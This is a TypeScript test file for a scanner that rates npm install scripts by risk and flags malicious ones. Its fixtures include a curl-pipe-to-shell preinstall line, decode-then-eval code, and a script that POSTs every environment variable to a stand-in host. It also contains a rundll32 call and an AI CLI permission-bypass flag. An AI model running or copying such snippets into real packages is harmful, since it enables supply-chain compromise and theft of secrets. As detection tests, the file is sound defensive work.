import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { LIMITS, analyzeInstallScripts } from '../../src/scripts/analyze.js';
import { judgeSignals } from '../../src/scripts/judge.js';
import { isReleaseHost } from '../../src/scripts/vocabulary.js';
import { severityRank, type ScriptSignalKind } from '../../src/findings/model.js';
import { MALICIOUS, REAL, analyzeFolder, caseNames, memoryReader } from '../support/install-scripts.js';

// The fixtures' stand-in for the public registry (scripts/fetch-install-fixtures.mjs writes it in place of the real host).
const trusted = (host: string) => host === 'public-registry.example.test' || isReleaseHost(host);
const kindsOf = (signals: readonly { kind: ScriptSignalKind }[]) => new Set(signals.map((signal) => signal.kind));

describe('malicious install scripts (the shapes of 2024–2025 incidents, harmless .test targets)', () => {
  const cases = caseNames(MALICIOUS);

  it('has at least 15 cases', () => {
    expect(cases.length).toBeGreaterThanOrEqual(15);
  });

  it.each(cases)('%s: high or critical, with the expected signals and their lines', (name) => {
    const { analysis } = analyzeFolder(join(MALICIOUS, name));
    const expected = (JSON.parse(readFileSync(join(MALICIOUS, name, 'expect.json'), 'utf8')) as { signals: ScriptSignalKind[] }).signals;
    const severity = judgeSignals(analysis.signals, trusted)!;
    expect(severityRank(severity)).toBeGreaterThanOrEqual(severityRank('high'));
    const kinds = kindsOf(analysis.signals);
    for (const kind of expected) expect(kinds).toContain(kind);
    for (const signal of analysis.signals.filter((signal) => expected.includes(signal.kind))) {
      expect(signal.line).toBeGreaterThanOrEqual(1);
      expect(signal.excerpt.length).toBeGreaterThan(0);
    }
  });
});

describe('real install scripts of well-known packages (copied from their tarballs)', () => {
  const packages = caseNames(REAL);

  it('has at least 15 packages', () => {
    expect(packages.length).toBeGreaterThanOrEqual(15);
  });

  // Judged on content alone, without the popularity discount the rule would give them.
  it.each(packages)('%s: below high', (name) => {
    const { analysis } = analyzeFolder(join(REAL, name));
    const severity = judgeSignals(analysis.signals, trusted) ?? 'low';
    expect(severityRank(severity)).toBeLessThan(severityRank('high'));
    expect(kindsOf(analysis.signals)).not.toContain('exfiltrates');
  });

  it("esbuild's installer fetches its platform binary from the registry, and that is judged low", () => {
    const { analysis } = analyzeFolder(join(REAL, 'esbuild'));
    const download = analysis.signals.find((signal) => signal.kind === 'download-and-execute');
    expect(download).toMatchObject({ file: 'install.js', host: 'public-registry.example.test' });
    const onlyTheDownload = analysis.signals.filter((signal) => signal.kind === 'download-and-execute' || signal.kind === 'runs-command');
    expect(judgeSignals(onlyTheDownload, trusted)).toBe('low');
    expect(judgeSignals(onlyTheDownload, () => false)).toBe('high');
  });

  it('follows the files a script runs and the local files they load', () => {
    expect(analyzeFolder(join(REAL, 'sharp')).analysis.files.map(({ path }) => path)).toEqual(['install/check.js', 'lib/libvips.js']);
    expect(analyzeFolder(join(REAL, 'core-js')).analysis.files.map(({ path }) => path)).toEqual(['postinstall.js']);
    expect(analyzeFolder(join(REAL, 'husky')).analysis.files[0]).toEqual({ path: 'husky.js', bytes: expect.any(Number) });
  });
});

describe('the analysis', () => {
  it('locates each signal: the script text by its name, files by path and line', () => {
    const analysis = analyzeInstallScripts(
      [['postinstall', 'node a.js']],
      memoryReader({ 'a.js': "const x = 1;\nrequire('./b');\n", 'b.js': '\n\neval(atob(process.argv[2]));\n' }),
    );
    expect(analysis.files.map(({ path }) => path)).toEqual(['a.js', 'b.js']);
    expect(analysis.signals).toContainEqual({ kind: 'decode-then-execute', file: 'b.js', line: 3, excerpt: 'eval(atob(process.argv[2]));' });
    const shell = analyzeInstallScripts([['preinstall', 'echo hi\ncurl -s https://x.example.test/i | sh']], () => undefined);
    expect(shell.signals).toContainEqual({
      kind: 'download-and-execute',
      file: 'package.json#scripts.preinstall',
      line: 2,
      excerpt: 'curl -s https://x.example.test/i | sh',
      host: 'x.example.test',
    });
  });

  it('does not follow paths out of the package, and names files a script runs that are not there', () => {
    const asked: string[] = [];
    const analysis = analyzeInstallScripts([['postinstall', 'node ../outside.js && node /etc/x.js && node missing.js']], (path) => {
      asked.push(path);
      return undefined;
    });
    expect(asked.every((path) => path.startsWith('missing'))).toBe(true);
    expect(analysis.files).toEqual([]);
    expect(analysis.unread).toEqual(['missing.js']);
  });

  it('stops at its limits and says so', () => {
    const files: Record<string, string> = {};
    for (let index = 0; index < 60; index++) files[`f${index}.js`] = index < 59 ? `require('./f${index + 1}');\n` : '';
    const analysis = analyzeInstallScripts([['postinstall', 'node f0.js']], memoryReader(files));
    expect(analysis.files.length).toBeLessThanOrEqual(LIMITS.depth + 1);
    expect(analysis.unread.at(-1)).toMatch(/beyond the analysis limits/);
  });

  it('judges a large bundle by its size and scans it as text', () => {
    const big = `${'var a=1;'.repeat(10)}\nconst args = ['--dangerously-skip-permissions'];\n${'var b = 2;\n'.repeat(LIMITS.parseBytes / 10)}`;
    const analysis = analyzeInstallScripts([['preinstall', 'bun bundle.js']], memoryReader({ 'bundle.js': big }));
    expect(kindsOf(analysis.signals)).toEqual(new Set(['large-bundle', 'ai-cli-bypass']));
  });

  it('reports code that does not parse, and still scans its text', () => {
    const analysis = analyzeInstallScripts([['postinstall', 'node a.js']], memoryReader({ 'a.js': 'if (( {\nexec("rundll32 x.dll,Run")' }));
    expect(kindsOf(analysis.signals)).toEqual(new Set(['unparsable', 'loads-native-library']));
  });

  it('literal commands and trusted hosts are low; a computed command is medium', () => {
    const literal = analyzeInstallScripts([['postinstall', 'node a.js']], memoryReader({ 'a.js': "require('child_process').execSync('git --version');\n" }));
    expect(judgeSignals(literal.signals, trusted)).toBe('low');
    const computed = analyzeInstallScripts(
      [['postinstall', 'node a.js']],
      memoryReader({ 'a.js': "const cp = require('child_process');\ncp.execSync(process.argv[2]);\n" }),
    );
    expect(judgeSignals(computed.signals, trusted)).toBe('medium');
  });

  it('an environment handed to a child process is not a credential read; enumerating it to the network is', () => {
    const child = analyzeInstallScripts(
      [['postinstall', 'node a.js']],
      memoryReader({ 'a.js': "require('child_process').spawnSync('make', [], { env: { ...process.env, X: '1' } });\n" }),
    );
    expect(kindsOf(child.signals)).not.toContain('reads-credentials');
    const sent = analyzeInstallScripts(
      [['postinstall', 'node a.js']],
      memoryReader({
        'a.js':
          "const all = {};\nfor (const k in process.env) all[k] = process.env[k];\nfetch('https://c.example.test', { method: 'POST', body: JSON.stringify(all) });\n",
      }),
    );
    expect(judgeSignals(sent.signals, trusted)).toBe('critical');
  });
});
